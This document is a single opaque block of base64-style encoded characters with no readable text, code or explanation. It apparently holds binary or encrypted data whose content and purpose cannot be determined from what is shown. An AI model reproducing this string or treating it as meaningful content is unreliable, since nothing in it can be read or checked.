ploaVN0S02K4dwjWXC6K+/r+TfY0XTqzS/aN3ihx42Lr3+nWEKb6tEL1w6TMrFT99d3LdqcCVVYfwhDAXUvvuKHDdhWabvMkB2zgv9ddhLgq8tfAXSr4cLPAO8kEiADVjltAoTNHuosiFIx4a3uCu4L9qWajgcQoXlPynFGBr4UCbYORjDsmNynW5j8+PyJ45Sr18Az+BAaX+rWVytc/NDHa6EuRfiuCBT1XJVMv02O8hwhK9RkGz+jh35OQqINTvarPOxNP1JuAHv3LPMPffSGenz64ha5n0W9wl7O4yJIXtMm3hGfV6xu9l0ZesPFw01hsYGWpGjlm5nHWuWsb/SPIS+sxNEddYrlk5ysvGc70Ku2nUJXx74K/IB+jarGh03O2NPpF24kPW8hc9aDtUHn4CmAEFbkw9h/WNNFx1AGKjoWkXkoIzxN6dBlXkuKjF4lq9KfZCN98jVeEvO4DSwpLrymRC8Yrgd3b4HW9pdigAKr+3snfyaWkyZ23tmlgUVJtAXu1qGbHx0pzrJHzslrlguayRAkQSrcND5/6zMQ1k57gW1WNaJP3fDRg9o3Py8LnsrSjPoG+bA/DIRDphcQvZj18lC0Q9d0hUWZoTtQBL9ajktf9VuSwrIWnhIKxIqyvGY4RNRyHSW3AzsMLmvd5xgBaYSeDIgxMAlP0VWuVhp+xTTb6h9CSTxZm8DC6kg4uYHKAI3PIs0bRdoKxAg3+ibRiqegRlt8iAHQunhVVc/AYMpa19CzV/xsN6MWo/LV4SjNUCYjzYAcjDLo8Nbg1KcsV6SUGk225se4+DQUeAYod+l0LD/KQ2fCs728z7xWtv1cMxUDWiIGD/LFguVkFwchuF2OCrLQqpRAdV+0BmHpJfvR3bhZ5ehts8tmmkFJxtGho28kmSbTC0u7tfV17UBwT50Spnk3dv3zemIT/WQmCmZQglahdqQYWoj9z4KOGEi8RLMP9ftloYNM8XG2sqZDaAEcGao96Jtcz1eTd5vJl0uUuMX5U5dHJc2/ZQzVUoRt3b2uakbOCXyqKFpnsaa7dCEfRZEPo5EEyJAf41x5FxoqCAspwypZIC1neUOQnLCpG/Dt461NUKySxCxfzQ9E59o04d+7zz+Nmn6mNR4+2SoCk93VWPazRZJQdg591S7CzdpGmR07qQW9p5CZ+nBbeKJzqHdMQj7ITcb7BNoDrG6FUpuPec3aaanRTGfWMimD1eNy/8G4KDxBu5jkDz7cb9sI9LiW3dCobMrL2zbEcHVdyAYUpQlijQbeQ0XmYGNC8FZ4yQmVF7M8KubEaDt4j5Q1veE/A1H8BNvr+G0UrHmN6nRGGZDd+MeZXE68LEw2ZXUF2nVdOKefxzvHn68/svSrZ/OmROeboGyaSvWtW/zwSol2zlhbTaGhtBvQ4Wuak6KOaDy5XEREzELAjMz/0abC4YEJs0BS4cDT+xNbOpDJJqlsIjaVJKdK/zPn+nBoZhIUrh+jW0GGBdzDoG6pqANRAGDIvD09vmw8BQ7oNK8Eg/MgQLdLwi4nKAJVOfcJ/vcJfY/00cHNPJvPfHfNEc4Fnvq0+NycSH7S/esN3B/5lqm9HZrHcTcfI1XF9RErqc3VbGoq7oGZ6lwtfp61gl4yDeccFnEDViJv9ae+9O3pCY8jQt5es6g6uxr4q9DsWT1eLQwh41m+uZGq+Dp7xzBtfxpXdFfYG3k8jX+PugGoIJS7eK6/ZdWZm/CoTLU4nVMxYOS0qar9TtvXFsqphwpkXdfZq19xzk6UzOrDiH1/Vd4fgFbHcKFtvHx+viIKwVoQQS96B1AH/8YR2xy3oS14BXgT9BM/Vv0xU1lnYzLCB+7HEZr8z3s7yLFCK6ipDlXnuU9K9Wxp4nRlcHdoLue9JW+kamTt4GOYslmQzh2e2WW88+f3LRPMZ7KdXpnjiE2yHap8aQJ9qhzCnV4rj/NYHgz5XmqJwhYvTlaJwGhizBf6pMh7dNeDxu32i5FmsNRwwAiT0BkUOv8076TDetVTI+wJVFWtL0v2BrUa90NcQAHsEzM6iDM+J5/cg6YxGrB2BkB4+tl+KI0Tc8bmsA7bX6jwiOCV9BZRQLxjakQ+01uDUjETXkYxxdEli40rbrEll7s13cBGPYm/YtvyQa+oxK/25fVPtpTgnfNEJiaR1H/ZnhIEiWyptmcJTTxN3yzhoChDLRlaLZ7ng5/Qbx19grJUo0FCoqe1wpkfwUGqrvt4l0tiPt3tsseKof5YsXq+rFgLjl4oMlwP0hMY+FA407BHhXLIutc62/lKsJpNWoIpU6e/PZOAsiP7ERx40Zg/sbTQPiwjNNBubZ0rfwIENWUnHaluk7oFI/47WVZF3XnGNF3/g3Ov9dwHjyq/TUE71ZHT8BgOCchJHXZSsSBLJ9T2RObEvh8X8urFFh4P1D8b3/CE4aLXSyuc0SHnJDvC0avB/aS22Ii413fRWB87NoDlKaV/xhjoeaMIK+jq9y+qEH365mWPzl6Qi7tbUSgCXFJ36l+Fd0nHQlDy9b3PCpiqOOO6u4AQgYrlpgFAxTc8tu11i/+wD/Q/QXmRWDLIV5bsSCkaagpGS1ODMj85YO5eT1sjFsjmEwaPUsejXlJ2nHSsZ2YnqsH7xvxm1RpiYuWyUXwZddKlk5gZscxS4uVx0m+Eww2luqRcwjWgoAuuobbY2/hHb+1d4xbR/QFIwgE/Y49jGOTOluWSDeemPzxabZBF6bGPa0MLY7+RNiYpdTVpc9EaOPwSAtHjZEyrfVV7nwiQEQsqJyh4L61l5GjWSdLj8zz8742B7XP/SbzOl9R22iLKs8fN70OcyXfjT4u9GC8ZwIXrTP1GrYRqfbDgXipaw5UhIuijPBgqZVSJWY8GaygLlWEQ/vOC5laxF++rg4shdF3K4t+B6XSIbJyrXbN0i1iDAKa1m/aki3ivgp6A8pxbq35tscTHaw/WGKJ852iqzW5YkDMW4RM+8vmpLZigSZCTpjZhfm/+Xer5raq9xFBeUm0mm3CsMY0AdqUvks7LD2bc4lzWzRaCUJ0ZtxORxHt+LW1TbCa26CRHk9mNDt4nkUO0a2EKq1mgAAj7wy3KBjusDWmTJnVQ/iMOoZQgageRv5uuREOZzeeda04YqCs3kEOF/kSXbtaASFV1SuuYK9kT4YtYj2eLVXS/UPGrqmtTyC71u2JoY3tqPgIbBWzdGvBbtDziDE8m9UCeNuj4I7WyitQjV7fNZuYLlVmDc3Xhc76XQ1uaI8bNR/enzmYFJQ1Mc2f+MrdjeP6Z5Lkui1a9Te+7hwrJiijfU4Z1kZ8hTgUdU+6MnZb0Ex/EpLpWgDCg/rNCgYsLGNRblAiCbf6Czmb31e8bv3KJ6Y0HaWrMSsyUhgFrWqa1hkEo316X8gGzSc4xC/BA/B4k+SzDX3XhMNqRFtf7rP/Lin68G7bdr9faSHHsA4R+XoL0ekaf+L8UPnMwufC4bQ7fX6CythkAtGFPO6Jp1AhAl7YqLAg5dq62RLrekgC891omSsKah3c4fXiC2OTT3sOAYGXwyhknCSpV1e5ZdUz7HpJZICrmOIFhcOBiyy1KfN/kJ9XxQz+86HXl6A9wlhv4aFnHrqEUOD/SXdNVilIvQ502Wrv/eAWCmfD20cZv1xqe49lBTdEfkxPdmk4bFNlzSnQve86Uq1M/+fjl52lU091osQdEjk1IPfGB9agDazP4p/YqAfiAYsc6oRAiQnEGPQl/Whu07vnaQxJTehrVjhAgRybO2A6q8amrTlRC82+l3bFFWBkPPwnec8fG+8+nZh5as/fzEEnvAydROfxcg8MigNUA/VrmBAT87TjAfu/RHe3tgShAYWwo8NZqqezmancW+auc8m9IF6JYsSAAPA6VBLqSqbCjQ8/AL4M18kcxvxmswzBkGxLS0PKGA5kx0Tyarke+zlamMj1pVqFwIgqfYUUf+f+1l8EZM3NwthZLpZpFKn8fkCDE48mnUYh6vXhXDv5NP8FcSFtJ6W4h+xHAViDWE/fMrB+8ZjlMre9jcME/K4WX3mt326KLSLr6W/u6F+WIi9fX/xpbkwowV0MfTcvQ+jhFfWjF/nIcTeiN6LVyDpQz3g5kopOzuFRu0JDAmrR7fDYyoVcMWs5+i/t357Nnefw44glEybT0asRC5d4qWyAdCsRH+6QzBeo7zW/CZBV5NZH2durHvsO+++ZTQ+jVRR0hLNE+AbxaHU87jbd23APh44wrsvjj/QIvRJV1uhI0PPzbbMrkyR48zwj4WFuDI9RPAqUNDL9wy1dBzVWicJCJShjjK4BvRl0gefyygk3IuTktLTmh5THlcqpVQl0hEOMFanhwpar/8hYEkwjyAsZZBxLP/hWfDyviXGW5EzW86toEJY67LrcXFU/4SF29FqiggJi9IoK+0PikEFBBxh8mKGgR0rXAsruWV80yk6UUYd1sEDZGe0ahm2rpWYYxV0bBMP074YUgWZxeo7M3Wgh5B375rq7bhkBAzYOZc8GbDCsj7EGQ5tWydmyVn73f6YidNJYF11zYs8wujZyw2+QOqW5YL82yBYQ3OXPUtuxBfQhjatgMj0zlUYgYCRxRSY61GwgNK4crybjvzkoNEwWQ+ILZsl8KDvbJZfUUAJ6EVLX92NKDwXdyy+hp5Q6jlf2OW7+7Dfct+t0WGUG5XQsQk1nCjeCKk2TxtU4zHdWj5ZjT6fNYVF6U+Ah2xBvTLqQDErhRis2qQ1Vf0wBTW/50QEDldme6NSYHiieia+9DrRsvBCVwv4bw1xVDw1LHq9+W52yFvcqXOg3aufkniJOLWExG73hGoFEhsMbmndyEhMkjIdAd+x3SbRx4X/WG2peuFZEALTfhgZ+qE4UIRVNwqjQCUTHtYpJW4GnxYprLvAA/1JldlY1poOO12Siza+igEngYdzwzNpJ27Z0tuL+WFVSBJRmv++AcLVNIoLqwg5egLNz1WLmDZcORlGDpihG529X37O470YHPQTOuu4pkGacIn/UUuVpyU/BMjgSANmjgiov6SU5b6bYyWqzZfJ4uZVyNXfqyfRI9HR8eaSWcHNDb/1yWi9bAvRuftPD/WTdf/uV3dGY8dndlCpD2KipDsJxAyuP7V+WdAXqgF7U5TfxhxTbyRr1wGxRfJ104m8DfhxNYjTExjtFzn/OiEKdKbHhji9moRO+cyTPf8N19dUWIDKLgb0QkDGy6829+UqZ00JQL2kNs02vW7vu+MFQPbkGPrX+jeMc59mHPDoOaJRl/Rz0+pszixJ814W/ginvbtyK27oDvsfsVa0MEKddqdQxN6cqFrcAZfG/PQB54brxhznCYrrsLciEicVbIO3gqmUQc5wDxvEuLVRiQrjumAltUNoNuNSzMVc1eUEPHbV6dZmnlwUMsosYNLvnmyaurYfgd3Tb3KcfQXB7nWE+d5ELhtfcBpouzvyUtULIUlUPKrQPom/MzFISmfAkkhDdyzSMg8+bxahfxp7n0dfcayeCKi8a0mvd1vIdjFPZJprovfQl2s0JFlt/hYVUvwwcdlGFk0aJPN+jU/si/+KBrbaLRdWvIr1xx/3iPrGb0P5h9NqWFSmAysNU7nBr9wgNEwj2su07nou+MVcMa7Oedp2xIPCTfbvkAR4Z6g06LC8t33EUCI2Q50m3JXlJjuE9LMoWP0mWmt0sthRWq/sqjs9nfVe/rk+RFq1QyFFqDN+5Kc1CQGw8GhNb5yTPGSvG3Bp+UwDnWLw3isUOhqcrdQowH7sFUn7H8w3kgqj2y5pyBBHGvGd/+6Y1xr3DHyrhbbPxqHvH48f7hs7zM0Ervt1CVNPPsS10MHrs/d+fMXwHhV75IzkeTQ4mWKqOqwmdMBTsU8FDwGb9bi0kf7a9eJrkCWZezdSmSnNLcgWy9KHMz/zmdBpM02mg3h2EOaHz+xGbdi9846V6c7fRfa/U41uRE1Rhg7GT4pZVbFA0pgH+QqeoHV2bCCmxYe7KXToKMxJAAhZpbXrFmGZUjK34EVS9g20TMur8dmQDKO7BNpVbYkc54gnlnA1woTQV/cfdtYGnXLdb5sruZU7uNiqleDCerAnE7Yvyxxepa3Wxb0N7x8McyplGAlbtXPq2wDwMUvDqJfY893xgwPhdUQmMjW/vhpOL9b64QXT3NBFdzs8VrzALCRf89ZQsmgRjg9Q2S9vEbNqY4s5Qt2tKz1dGTJ5VBNN95R2/UG0gtw5xhXOcma0W/oFIzRLBF4+vw9rEOiFyHkZRsiktfnjgHBejZChTztrtwvkae5bNAPdtf8TduxhMpZ77AsODaZlo0SJPGj16T1PTyaFcZ8PyCPTM7l8xadEe9c10ntoV8mFVIc7tgoD9xL/CYYBHv5V230duoiW+VSKTJcg1X6ncWDXYHKs0uOhYiprgd1WTxKz8lju+OIEUQaaHCpkTpeTQUMwCqERkUMMHAgRUnO/oHOzzaj4dcCtfWXm4QcztnC+GHHaFfVHDFg1m7Pu2H9nEPj/kiY/6vySkfMjQ4iGQBDeXgDCkwv/NYA8pWVyFVZzZ2EDzkCiT5wYb+MZkyIh/jTCV+PDomXgmg3FQAuk127vnCMUG8ukEfVorC2TthnZLV5tQnfvfG1KlAfSazK56papDnIIPiD8vZ/y3TeztN6XHgCNxAi1Kn6x2ScyexMAWdmPkjQNjwtSnvF52k7PdxbVnHMeXpukn26At+xcMKMHh5gNXpIUWBxM4ySpuqXtyJC+FceI3xW3dbx8+q+IYHN0ioeVvd42QQHgXRNJ7HqC+MDKjfhn5tqVBnUsZN/h16/vXkvhs/PfxxaL4zqPZpOL9gf/W3R86Pgdhal1TrYaNi4KXeTqmbMk4wEDhFG7wTYiImIFo3BXOL+4/W2Jy/+zlJjd7T7wuT92JkLRl3p701U9fI068Tejz5af6xWZEVSqvC/Ep1+qBOohB/CG+wPmCtnxo1DK0p8bdXrOlE16KwYiUyZHbZqlLGBXLAjgOAxhbOhPOwqFzPtNcTDzqoy0GKVTqHK4osh1mnsx9gfYqq1c4PrVr+LMyBkz2kNh/xC12iwQvqQUT6BaAFf/eyRCqPhKcwLhfDqAVGEA5N6EakOEy1adWc7M9FWMfwkXYOgYrOULkM05ENfnlzNEDouXuG9ZtCpFyBH2ITBfGasEJMcvCeWctGJBy8Fjj8BnXVvuiLco0WJzCZJgeYlW4arj4SvrXVVxQvIPMQendtN7OvOAYjbzsvowyU9T2mvNtpOifHxalkoHbQZavanTE4Bgba6VJp+/dSXl2DHFZDEZnun1w25NLqLj7EvkVRrfIdCa1SbEZxvlTvGvODvT0qfQclp3q1s/cqhHeiz/LpoxR3Em4QCGZJfOPKNM16pOaz1jaFhQ8kVD8fn27tKFf7Zn+/jygVw4QqpmIleN1bPU9KMN6aFgitALy3m28t13P4RWkF5x+22MyyN5SHXtivzWEHmU46XuvaFmRA02KvMmLQvhtJxcw0pwO1pBcSi4FJqGLDwQkOC5m/wPlqkF6lSjTvr+zU89Nl0svstSzkyBdb2a8BcxXJaOL7GpzNj4zANXrO0CxRtKnafntfEWltnzmKSpwO/G3YZREVZDVdDxPlZncb9vFUHgfv6KFnSXD7lKXRxxMrly0ng7bZ0gPoSth3/QCFhu48MoOBBi0KelPm+LkXLxx7nYckbkXbc3aJrL9UqBitDsfLKVdtgzFfVtr5huf9zEcSndMlUoMdI2OuZgaP5zH16TstTHUlAPrt6nN2IK8a6gzCEiOdUnYpmU4r3lQ3oEnaTidk9zkxVigZJNSeHBPagWix+Mm11YPd3PiinYqPi5gxCWtIX99A6dR5QZFpQn6b86xhJgXkcL2JMN3931geVsMOB1oXRCMcAJszPdqjZ2K8tnsZAU40aI75aRESb3cIINwok5z5Bi4pc3jb2KP/pstImLyOGoZ/+3ob+7vXn/jw0Vg1WOWgH/bssxg+xvqYNFqobVTLVnpUX3AGtd7xnweI2P/I80fKF5SMcW8g6QfWRkbYzCp5KqMs3/vqkgkj4NbTro27EU6A2WC89VbXvLmaTQiS2X3LB4npxdGqcQOi5DEgWCP14ubnno7IJUUfwanxzNC3XXeFMmLo+OqjPw3FcIa0BngjoKAe8Q4MTT6f1RXnj63vfe86n9UuCq2z+jC/bpqJ7b2LzcX/AjQAEvFG8jzPaOYfpjaOYdWMIMj9LtY8pLqH2dtr2Wt1CreczQJLqeFCIEKmuJW8MxFh97I4Jch01/JJ6R91SrPL8pJHE0ZhKMH8kvqy5VKt4mQo9baFxX6FuLdbanV8cE+lbhFXmJx6MxapwBRDcghIrNRQNWMVyYfyNy80edNgwEoMiqCNoydn1MC/uvFd0n9ggX6GUaKUv9saQJDiP4HC6kL6pYG7rNh8khMarMsqxuED1glDUk+9/mm2bLNbVf1w4qMp2FZkO/ffGHNrv4J9RMyUKrUBUi9Pwpb69aQLPdk0q6Ay4vuvHC5yy9/IxWuQgC0YAhZSFyD4v/abCQSADO7e3+uvtGy9woUHZIXauSz9lPtLW0tR633ubXKu7kWRJqGESZV8uIQRayfmRAgwxu0T5AuA+8imZPVBkRjKbL1vRxRLRXDmW55CKyzAorTbhLM2jfJB6oLIayggP3/C+gbzq6OLUtH/DqhnGMBDKi+UReIj0SnqOPJ9I55/o1czzkT5Mwp+AEb+oV+peZ9D4k3Wa8ZWIzrRUoMHcQ306hu/7oGvSGmLiRUaZTQL3wIaKbOAZ78LQC8rVIdOZCg8lv/ooz2kFHIR9AfJa1AtxmyE8bEEnxy1lWM4tIi9RCpQOsF4pzEnLoxL60DMFCdxfIC/leenu7GtzBaWlEG6GEVMnzs0psh9/RpKuaRxktcVw0T08h6PHouU97u4uk2it8/WWnF1+EEp+n7KpAe7D9lLZxmN7R3ICQMbhP8/BNLehgaK6QsZ7KExNKzoQmYWlAd5XRotmzbYPW0l5lXHFTBloAkrUnXPZUArSN6KRKejtNIwDLmlNl8rVONhSsBK63C/lSkoWHxR4ZQP9ih9FMPw+JfSxKfuArE6DZuiof7hLrBxmruG5BKb5mUUIpblvQm77coC5feenijo1kZuzS7FBIgXG2bmCXhOgz+jmPX7NxbPl69slWmuwxAC9ZzLVEjK82n4ywcGi7eAdxcBhiveZmcS9HgF0LV0keHCAM+eDLiiYssKuFn1+kMG/bWyvSHc//WuCyL/nZ8UP7hM781vxJj6+2VKxchuuT77RhQc9aCKJ9cbndwpxuTXem5SPTTeBKEJ5wW5HYVq0d9Xb3TK0RbhObfqhHS7luZwpYM1MoX1k7AWw6LLvy+k8cf5Xf8fQgKg9Fce+VS5vM72rSMVE2F+rc9bRbWJa9y5UnTqnIfLJoKf8mJj7EnNyuIudWDo3j4TBb1eyC4NWT774dY7DQvL4b00sX0rqCRCjpTrbxhJVhBiQfJv9C2UInjN7i9geAmyQNBaBMGvSVdw8VdVs8Ym7AGYOTFgUC7kLmjoq0vzGI9iJ9JNgJ8q+KA6o3KzLDqGjiryhbWDGj9pHWZKmAZywrQaLrD2rilJpAm3PRleBX+quzLHurgX9pZzaKqBq72//wX7POQYpOHoPQZeH5bmrH0UKulTX3SsPxgVhDgqKyKKnlJx7YQuHht3hCaVoHT4N15w5kBhXj16EoxMLp7kqI4EzUoY7iFuYahTKgKFRQ3v7LtrlAVWjk2ZMy8aPSCqCwhBX4Qo7Ou3x7ZwVGhioDlQfBl/l7Mkg21thEAQJXDLBaFjZeyQha+AGQ8Hf5X7mE4+JgkYX9mhgxcdltU8BjitcZhxVZconXC94WUiXiWv4tpFyyDYCMFqNvVgYBTNId3lPPNpl40FeomrXc7gQqZijVJPagluEzvF1XDU5Q1xtQ+zpUtP+EO9bYHRMAzUDhjgWSKAq85fWjIleQk2PoGLc5y+gSx9yZr3WAM7X7Y9YgeTfYp5xzuS+jK5sLL5W/dRVnOtHBHLUXa3LRWGQaeQ/s+82XJtDT4Z046hmiD877LlSGKhMY4ac1drnjDs2+52ykg4iGe33WpISl941MBvXTo9VPWtLbhV9gERCS84scZp59DawcmmT2u93Ft0j/AfDiNpt+gbLpcI6aLvObrryA7uvLE/zTCxP5LtEa45V+XSmu+chbzFciN/zA9473RC/0YvdGhKsV416HiqvAtOHtEbLxsX38vbYDaxE6X2ImqqvM/DUUdszt+hBbRJXNw/B7qXdgE9y4+2u+OtBBHrFrE/dHvXXv3mKbU3ftJ9LYiwMh86xg62tlKHiE/k3YSr3KE44GAQhMZ7sGWKzhPG097+8Aea8Q+3cIVz9jO83BCbsNCDkgR54zTXk53JwpRtY7rhBWNqQ4zntQba2EMe+4RQoDJHJ0dxeZghiJQ9JMsp2fk11cw0ON8RUTg5PEWIsAh9fdIrdvQtvxca+oGGdN7l9IqzOZtK6VewoXeEEhA4QNIJaBnp00r++XQMs9PZ7eGVp4V0uIuep27szINevpfGw88l8uAWHi/mia4MGlTYGE/GAIYf8DGbJfWhuFWElv0NgC1kHcxiAe8aQV82e+mnmT+Xh2mWknMFTnYyiDDDTCJaUzyht7u9wrysHkGHBRlqXuW3PtvXdGrpxO4Pvy1943Y9cqLcjU/ete7BktwIeFAZW1cvEsLWiyfgyS3X8F4njOQY7tr8piqjp9zFSP2mbP0cIrHNpsK+ULobe4uC2T9w0Mf303RsVWUtWcduWrolI2u1QCCx70a1YJ4qwSjVmORf5TjTDeEt7MnbSGIxwrltlUu7JlDF6C+otel4YtukaX+I6zF41IdcNIAuHzcuXjcv7oohTmDn5+LsR3UgoZqWs8KEYxGeOVQ9JnhSILNTBkGhp6YYRqZJa71Z8FCIqR+/vqjo4Atn9j77JP0oSxy3t+cvRDcnR6uIGHe6OgoDx9SpjOOPlhdhKPBvIpz8XzxKSG7nnfwdFaucrNL1S6UNsXDn2BPYby8wGbrC6y6C3jTBBdXOgtVFql1nIu/3LdT9cE5Adir6bOs96C/98SO2klJcFWcOtN+V2jGcZ1IFXEXFQqGr5B3311q4oKloy3k1IfRA9y9YgIWiBMN9HcPocmwZNtCtqazxoc3aFSw6MhXQyetjIHTCznPnlpooH6rl/cTksE3YNpl4wdd3TLbrS72i3Pf58cT2155YDJwmMoxeA6iaIFOi18j+o+fTIqt8Rn/t5TcnM9tpI4S2nh7HPqYlTyfh4M8Ard+QhvKAXRM3oAJB4OtxdRB03o7anmIE7ueO8js1bFmYzi2VFaHawkyrNqOtM8KAxPTmc5atJwGEBx32s5QZM2OMcFfzNUr1SspOVNzvZN0vF9cEGaXQuq2KIT9Jp/sVFsLpyuaOhjk+0ns3iulbTyFyNnit9LMncsEtIPv+nqIgo4vc+oA7EPu8Gm95l0p7vXPaWe2nk/zBcT5jOcqTiowlxtUJd8Rr8kp+NbBtwhM6Tvu8ouxM9dsn7kyzzYLPoSkqiWSzu3KlH5bfvm4kDS7AadOBSL+9vEM8a66h5jyTx2PZuVWINztFGDQRgx/+nhbjgPVsfdSky204OEBfw+87qlUlSxSASiMw6un6SokpoU5RIV30qTOqdRNMvZsNZzoc2d11kEtYscFYcFQQrSEpxeqIMlAKjXdhOoUaKtn9zaPpKF+qEULA55vf+dioOw/CFKst6ORwDNPveBX/1moMlxtOyix0fwqz3bi334l4QYDbMxoDisrg+zPOPS0L1Q6yOJo94aD1sSa9YLmIh6UkiMNej8ZXNf437AF/5NehoIM8Iy1JMahRHGDwuoQmscR07o2tFMMZm936cvXEdq/wVLPB/j2X6lYcRkLPIBsUwtvc5jNSX2shGCly8q1QuPxxkHXREc+YHFpUpZkZD1tYepzLRGbIatgK2esSgarDS9zvdvKhCAggUrh/EhS8/VTlLINsB0RKyjSp2dRbjSJkLBSAtI4y59JCBwy8UdUzjNuMC2dl52ofz6JQIMe54NR2I3pHuChh6zGeHVCvPlo8pWmXJYxJFqS2S2n6Niw3JcWW8S7k0gwO6N8xzZdIcOeN5lgFASg9/YlbugU9mryEaBoY4cRSexuu3ESh2bZGyH6JOUZjHv4dn2sh2ExPvvz0xrs5R+3J4/0dMED9xeD+z5q5pHUzKFz/ShEiVsbKS2UmV4KjTKQq+LbqVAYyDlcQZf1iIT6hY8eja020MxGXYTqOqxkIYBVixAdMQpF50qXuacvnuwcSq3X1bOBsHHRc+F5KpGIa3NKtFDK+6eDkC87quC8QhsHzEEbipOgYFGER81wIywjrFScjVSOK6pgRPUxkWdoakNHVH6IYt386wrbm1jtF9DpdvhlJdjfhB0wQ0ltW9c+JqoRjFfYniqr4tolGoF3hcq3nqmv02RxXDGDh9amEWa1Lz3GpU0Hs0WnhUmNdqZbHgmipVkfQLWqgblrOnXgkEgtjMwSG7YIOk7CFu47jcr4T9Riy78SP0xEaSngYRyzClO1LIldhLSfl5cNMkpPZZWmmJZYMzqOvc4vNJ06fc0RbnhsOhCSTSJqCXJ+a+ua8JYTmHNePYLObNQuNfm0a0rB4HqzBE6Ff6O9kutJ3iLF8bQvPuxiQpx9EcA3JLI4ZGQ394PwWPzAd8mJT+80EMokUzvU4tvIAY67WZhaHB4VoYq2kZEs1B+wFE1BAORJYt7eZkpwlJjFsIvf9kRvbwd+eitC8gIJmwsqGzWAQCAi8Nkzqw1BXkHOPf555z+YMMyInrlvTx2iU8NvZHSC7JJJWeDPpuk4/9KJFKE+9EMgaIV/4zB/S0z5UYRCAJcgBXe9OWWgJyN7X+6kXoZpEBZdOAcNofFJ0Fd/AEOCRzw9G+/GWqGV89nRs3kO8UDu0uILefL+Pu8Q+Ui59/IjZJPfQVfHKlMWjZP/x0UvRKOQYFQLotG84Ak1xoFb2rpykxMh4JVLmL3/x1fYHd4IDx4omE359OuePcWYqEL8dOs5lY7+/fGM2dX7PeGH5CB48Ufx0kTgIGGBV7jIXvtr1jcQ6oJmbDHv0pUqchwNdPx70dsrzdoGLeZauvQBBK7yMG/Wh9u/OYJYyjzpLPXtE81gj0lGoYAF60LPI1lCeazEDMmC6wmJnqI1UyPfQtHA5tEGLSQfC7Zbe3V1+jBLj/CWGllxjZ/nYkBW2CQJ7YzbLdFhDDdLe43vMRZYnzPRJ6luH1Cc5TX19swLMqCCKx8YeP9dU64JbIepcs7faVALwoxikUqWXa0VziHyBzGonEZa/HAvLasn0t7cyCI6K/tXxDwanvhMzrUHs9fTocauJog7VGE22a6f40P1zkqM5J38qNn2R62fqObFgzpuHgPJlHDJzdD56yKJshsIr9S+mUjj7S6iuhkuJWbiCKVa1iBsVUTTMi2X72NStia/gbcxaIsNpPbZ3Ln9Uz4vR7nnUNhm4CSlUR5VwWotciryBZGenanUcgtHYOr5XZCKH5W954sQphNEwfE4pKdwmYiG4rvojN6WDXDwV2D2M9P4G3RKiQBF2yJbVcAfHAcjV+aSdUYg35yIzXrxlWz68AuN3lMdb99Ver4ZGtsFEw1VbEZeCe3xXQiggZxzGOAnOh0qYAKMw59+c/8rCtvKJAKfdorQWUHiejzS5b2jgy19J0NjDxvoMHfelRExJ8dZVYkuC/mcgoARu4rmzX9jzV1SZ28Ija6LxcA0rOI7HNO8IR6nsOctpRDZhyUU703JOgXkNiutq2aSXHnRdnoYay4crtFuXhctY4sZYTW1yLDAS5lecubuCNZX+L6vF1IpJa+/29nDss+vvZtn93i9sDOrbCUhhFXon6j8RN+ds+FjLdg6fCbM6xXMbYd2kfmAWUpdY14lAU5wYuHdgOEoSgTenUiPn/M5BAPa5AtyMsRllB396Kv9f1M4QJtkWq5juj3eFV6nDbUCfPwNO7Nmo10k/GFbVoNNbkNCt7yocR6DrKkawKksaZHJvofUeZZAJaQT9BMlhai/qMbklxw/HjzX++nDFXXZd3ayEHLqx5EzMlGJU7q6c8MMk/7B/ViyCSS+l8V9K/H008YB4HQECdCjFJ89BugqVa2pVPzi1ZnYSvIIwi2Az4EqSSVkhnBfby2RpgegM8zmZhKiXDwIBgPvJND0bqFkW9vdPsZplfwEBhzHn8uDGvOZxG07iBx37tiOpiE2Lk0USvbKBSHvX8rsxegthNhjrwJV59cGWd6T5c+wPeJp1F8HqW/JiuUfm07sAw6makapAHyDoajLEVfP0OadBHE7Pw8zeXpO0w6zMjI0Vi8/KSqZyQZAdiQkS4Bq02IH03paP+ak5qglaucaMPXYX4W7Lr7QfMXEOGzwxgqCY7zyaIEuu8a8IpOjKa8UW64oIMVklmYNiIsgmmTILoF1EQldmwNr+D9gAHWZhbpMJD/kLt0afX4WK++i96kl2qhEl44nfuO5wA2LhdAzEhxUSebXZIo8yMjOEePTUyzNlb5VgTfvBXNLbwdUQvSWgajwbOOQ8FGZsN/YKEzPehLkBLl9ilRDsGGWSBjZ0DJ2Ucndt/htGmsNY5j4nPykYOvQ26VwppkX9LM3x3t2rdfLAD6Lv66Sfi6LkBAAM11ei2mEqtEUW8Bani1TUUEf0TFn3Mq6Nu3nIfGwXMZzJb7y9UAFLNfyTSz8WUrp0QmtFKXNEgC0t+ojofvQXdxqalZWmD0Qly4BkHMMQrQ6ygOFflsudrDb1iYmV2f+96uPCuDU21bCBfArUWSw/J510kZ4/SzuXuRWoNiONcl7RhP4rfp4X3bcPz3Z6WI+c9JWgSZXDODRMzFONoUC+MQZ2cn3E2s4CNVmiU1mA7bjQUSpwkKSqBRqbuYOOyhR/FhFLZRAtbrbwqXwMx6qIvrk0wcCuQvOqKITEfRppW9o879hUI0LmDk6VzGWYP1x4hzJgxBMh8hONYA9WIB5CNZjjvfplW0wKv4h+ZvXR49ukhFL8MiGAjJW+JY+2rRpn0B7sTay/2wvelxPMWpCigbS8fa4HYe0QJcvmehx1LGc6BzAoakBqL0CYNXtaB1df/mvpODf7xa6KVK3skSTcDqPZP+iqdBm0bKSAeS2bx3pQwXTNoJvXzwheQQXZ/lNby3NCQN/IUUMynkNiZ08qF8Evb8FoOrOnRtIgv6CU5c2MZZdMzUXMe5f76kFHt9rQ2QnT7e4XZCx6Ym6RcERtJgT0ws5wtFeJuGmAFqFF1MFuwagWtEpK3X29Y5w+rtfVbEm8jtB+wWGCucvMzTPbrIOuUn7lpP8YJXw4GiYH6RTrkpB6/cXC5RtfSRiVW/FaaYbsGpK01eLkjt8+S6DMaMT2DZoGwGKZvIQYIV8S/Y/+XJ2qKfi2dSUToq1+wO0mGxIoYQ48zPv+Zu8itZRLoXIwuuKito+bBz0n6FEhopF4KQ0MhzUYMcx0ie5a2nBqFjHJYfVgRyWCKIAXXqBTx4fBV/uCQYF3mIo5IWjax1LDrMJp1bj2shLp7wM3uB2JRryB76SNnPykCoUDfZAAwEAke7k+1UmUGOOoijSuOsJ/iBbH8KxeusE2jEhur5CP8xmnxIz8IKB78XG1lJkke8NZt+xABc+CJgLJeqC6h50i4fmVBhha2835KIRj/Cexrz2EmgwhoU4d1Dr7tf9ZRNTJG4Rom20Z/7Mw+KsEpvaOsffbgrIytvQcS9eWDyH6K7ZCTvfk9Av0ceRCSHQBuR1cAzYSmyQSgdjxg68LGtXhDOGAgb7Gz5MV